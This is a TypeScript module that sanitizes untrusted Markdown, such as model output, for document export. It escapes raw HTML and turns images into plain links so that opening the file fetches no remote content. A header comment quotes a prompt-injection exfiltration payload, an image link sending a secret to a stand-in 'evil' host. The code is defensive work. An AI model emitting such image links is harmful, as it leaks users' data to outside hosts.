// Makes untrusted Markdown (model output, pasted text) safe to write into an exported document, and
// changes nothing else: code blocks and code spans stay byte for byte, raw HTML is escaped so it shows
// as text, and images become plain links, so opening the export never fetches a remote image (the
// classic way an injected prompt leaks data: `![](https://evil/?d=secret)`).
import MarkdownIt from 'markdown-it';

// Only used to find where block code is; its HTML option matters for nothing here.
const parser = new MarkdownIt({ html: true });

/** A CommonMark autolink (`<https://…>`): a link, not HTML, so it is kept. */
const AUTOLINK = /^<[A-Za-z][A-Za-z0-9.+-]{1,31}:[^\s<>]*>/;

export function safeMarkdown(markdown: string): string {
  const lines = markdown.split('\n');
  const verbatim = new Array<boolean>(lines.length).fill(false);
  for (const token of parser.parse(markdown, {})) {
    if ((token.type === 'fence' || token.type === 'code_block') && token.map) {
      for (let i = token.map[0]; i < token.map[1]; i++) verbatim[i] = true;
    }
  }
  const out: string[] = [];
  let prose: string[] = [];
  const flush = (): void => {
    if (prose.length > 0) out.push(safeProse(prose.join('\n')));
    prose = [];
  };
  lines.forEach((line, i) => {
    if (verbatim[i]) {
      flush();
      out.push(line);
    } else prose.push(line);
  });
  flush();
  return out.join('\n');
}

/** Text outside block code: code spans kept, `<` escaped unless it opens an autolink, images unmade. */
export function safeProse(text: string): string {
  let out = '';
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === '\\' && i + 1 < text.length) {
      out += text.slice(i, i + 2);
      i += 2;
    } else if (c === '`') {
      const span = codeSpanAt(text, i);
      out += span;
      i += span.length;
    } else if (c === '<') {
      const link = AUTOLINK.exec(text.slice(i, i + 2100))?.[0];
      out += link ?? '&lt;';
      i += link ? link.length : 1;
    } else if (c === '!' && text[i + 1] === '[') {
      // An escaped "!" keeps the character and turns the image into the link that follows it.
      out += '\\!';
      i += 1;
    } else {
      out += c;
      i += 1;
    }
  }
  return out;
}

/** The code span starting at `start` (up to its closing run), or just the backtick run when unclosed. */
function codeSpanAt(text: string, start: number): string {
  let end = start;
  while (text[end] === '`') end++;
  const run = end - start;
  // A span ends at the next run of exactly as many backticks, within the same paragraph.
  const paragraphEnd = text.slice(end).search(/\n[ \t]*\n/);
  const limit = paragraphEnd === -1 ? text.length : end + paragraphEnd;
  const closer = new RegExp(`(?<!\`)\`{${run}}(?!\`)`, 'g');
  closer.lastIndex = end;
  const match = closer.exec(text);
  return match && match.index < limit ? text.slice(start, match.index + run) : text.slice(start, end);
}
